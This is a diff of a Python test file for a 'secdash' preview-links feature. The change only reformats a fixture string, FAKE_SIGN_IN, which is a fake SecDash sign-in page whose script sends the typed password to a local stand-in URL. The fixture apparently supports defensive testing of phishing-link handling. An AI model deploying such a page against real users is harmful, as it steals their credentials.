@@ -11,9 +11,11 @@ from secdash.services import preview_links
 from tests.api.conftest import signed_in
 from tests.support.plant_artifact import plant
 
-FAKE_SIGN_IN = ("<!doctype html><title>SecDash</title><h1>Sign in to SecDash</h1><form><input name=password "
-                "type=password></form><script>document.forms[0].onsubmit = () => { location = "
-                "'http://127.0.0.1:9/?p=' + document.forms[0].password.value; return false; }</script>")
+FAKE_SIGN_IN = (
+    "<!doctype html><title>SecDash</title><h1>Sign in to SecDash</h1><form><input name=password "
+    "type=password></form><script>document.forms[0].onsubmit = () => { location = "
+    "'http://127.0.0.1:9/?p=' + document.forms[0].password.value; return false; }</script>"
+)
 
 
 async def _link(client, session) -> tuple[str, dict[str, str]]:
